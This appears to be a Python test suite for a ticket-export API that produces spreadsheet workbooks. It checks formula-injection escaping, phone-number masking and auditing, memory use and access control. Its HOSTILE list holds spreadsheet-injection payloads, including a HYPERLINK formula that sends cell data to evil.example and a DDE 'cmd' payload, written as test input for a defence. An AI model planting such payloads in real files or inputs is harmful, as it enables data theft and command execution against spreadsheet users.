"""What leaves as a workbook: what the list shows and no more, every text as text, telephone numbers masked (IN-6)."""

from __future__ import annotations

import io
import tempfile
import tracemalloc
import zipfile
from typing import Any

import httpx
import msgspec
from python_calamine import CalamineWorkbook

from core.exchange.sheet import Heading
from core.tickets.export import NewExport, write
from core.tickets.model import NewTicket, Ticket
from tests.core.tickets.desk import Desk
from tests.support.lodge import Lodge
from tests.support.web import Web

PHONE = "13800136207"
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1 tab",
    "\r=1+1 return", "＝1+1全角", "  =1+1 spaces", "http://evil.example/click", "普通的漏水报修",
]  # fmt: skip


async def take_in(desk: Desk, text: str, *, site: int = 0, **more: Any) -> None:
    new = NewTicket(
        description=text, category="plumbing_electric", place="3-1802", reporter_name="王芳", reporter_phone=PHONE
    )
    async with desk.work() as work:
        await desk.tickets.create(work, desk.house.sites[site], msgspec.structs.replace(new, **more))


async def export(web: Web, desk: Desk, role: str = "supervisor", **body: Any) -> httpx.Response:
    api = await web.api(desk.house, role)
    return await api.post(f"/api/v1/sites/{desk.site.slug}/tickets/export", json=body)


def table(answer: httpx.Response) -> list[list[Any]]:
    assert answer.status_code == 200, answer.text
    book = CalamineWorkbook.from_filelike(io.BytesIO(answer.content))
    [name] = book.sheet_names
    return book.get_sheet_by_name(name).to_python()


async def audited(desk: Desk) -> list[dict[str, Any]]:
    async with desk.work("admin", read_only=True) as work:
        sql = (
            "SELECT changes::text FROM audit_entry WHERE company_id = $1 AND action = 'ticket.exported' ORDER BY at, id"
        )
        return await work.uow.fetch(msgspec.json.decode, sql, work.ctx.company_id)


async def test_in_6_no_text_is_a_formula_a_link_or_a_number(desk: Desk, web: Web) -> None:
    """IN-6: read back as it was written, with an apostrophe before what a spreadsheet could run."""
    for text in HOSTILE:
        await take_in(desk, text, reporter_name=text[:20], place=text[:20])

    answer = await export(web, desk, wanted={"sort": "number"}, columns=["matter", "place", "reporter", "phone"])

    heading, *rows = table(answer)
    assert heading == ["事项", "地点", "报修人", "电话"] or len(heading) == 4
    shown = [str(row[0]) for row in rows]
    expected = [text.strip() for text in HOSTILE]
    assert [text.removeprefix("'") for text in shown] == expected
    for row in rows:
        assert not str(row[0]).startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
        assert not str(row[1]).startswith(("=", "+", "-", "@")) and not str(row[2]).startswith(("=", "+", "-", "@"))
    raw = _parts(answer.content)
    assert "<f>" not in raw and "hyperlink" not in raw


async def test_the_workbook_holds_what_the_list_shows_in_its_columns(desk: Desk, web: Web) -> None:
    await take_in(desk, "厨房漏水")
    await take_in(desk, "电梯异响", category="lift", severity="critical")

    answer = await export(
        web, desk, wanted={"text": "漏水"}, columns=["number", "matter", "state", "created", "number"]
    )

    heading, row = table(answer)
    assert len(heading) == 4
    assert row[:2] == ["GD2611-0001", "厨房漏水"]
    assert f"{row[3]:%Y-%m-%d %H:%M}" == "2026-11-23 10:00", "the site's wall time"
    assert answer.headers["content-disposition"].startswith("attachment")
    assert int(answer.headers["content-length"]) == len(answer.content)
    assert await audited(desk) == [
        {"rows": 1, "columns": ["number", "matter", "state", "created"], "full_phones": False, "reason": ""}
    ]


async def test_an_empty_list_is_a_workbook_with_headings(desk: Desk, web: Web) -> None:
    assert len(table(await export(web, desk))) == 1


async def test_pi_2_full_numbers_take_permission_and_reason_and_are_on_record(desk: Desk, web: Web) -> None:
    """PI-2."""
    await take_in(desk, "厨房漏水")
    columns = ["phone"]

    masked = table(await export(web, desk, columns=columns))
    full = table(await export(web, desk, columns=columns, full_phones=True, reason="停水通知逐户电话"))

    assert masked[1] == ["138****6207"] and full[1] == [PHONE]
    assert (await export(web, desk, columns=columns, full_phones=True)).status_code == 422
    token = await web.token(desk.house, ["ticket.export"])
    path = f"/api/v1/sites/{desk.site.slug}/tickets/export"
    refused = await token.post(path, json={"full_phones": True, "reason": "test"})
    assert refused.status_code == 403 and PHONE not in refused.text
    assert [(e["full_phones"], e["reason"]) for e in await audited(desk)] == [(False, ""), (True, "停水通知逐户电话")]


async def test_twenty_thousand_tickets_take_no_more_memory_than_a_thousand(desk: Desk, lodge: Lodge) -> None:
    """Read in portions and written to disk as they come; a list of all rows would be ten times the size."""
    await desk.create()
    columns = ", ".join(name for name in Ticket.__struct_fields__ if name not in {"id", "number"})
    copies = f"""INSERT INTO ticket (company_id, calendar_id, id, number, {columns})
        SELECT company_id, calendar_id, gen_random_uuid(), 'copy ' || n, {columns}
        FROM ticket, generate_series($2::int + 1, $3::int) n WHERE company_id = $1 AND number NOT LIKE 'copy%'"""

    async def peak(before: int, rows: int) -> int:
        async with lodge.owner.begin(desk.house.company_id) as uow:
            await uow.execute(copies, desk.house.company_id, before, rows - 1)
        new = NewExport(columns=("number", "tags"))
        headings = [Heading(column) for column in new.shown]
        async with desk.work("supervisor") as work:
            with tempfile.TemporaryFile() as file:
                tracemalloc.start()
                try:
                    assert await write(work, desk.site, new, file, "tickets", headings, lambda _, code: code) == rows
                    return tracemalloc.get_traced_memory()[1]
                finally:
                    tracemalloc.stop()

    few = await peak(0, 1_000)
    assert await peak(999, 20_000) < 1.5 * few


async def test_ti_8_ti_10_no_row_of_another_site_or_company_is_in_it(desk: Desk, web: Web, lodge: Lodge) -> None:
    """TI-8, TI-10."""
    stranger = Desk(lodge, await lodge.house(), desk.clock)
    await take_in(desk, "另一个项目漏水", site=1)
    await take_in(stranger, "另一家公司漏水")

    for wanted in ({"status": "all"}, {"status": "all", "text": "漏水"}):
        assert len(table(await export(web, desk, wanted=wanted))) == 1


async def test_a_guard_exports_nothing(desk: Desk, web: Web) -> None:
    assert (await export(web, desk, "guard")).status_code == 403


def _parts(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return "".join(book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets"))
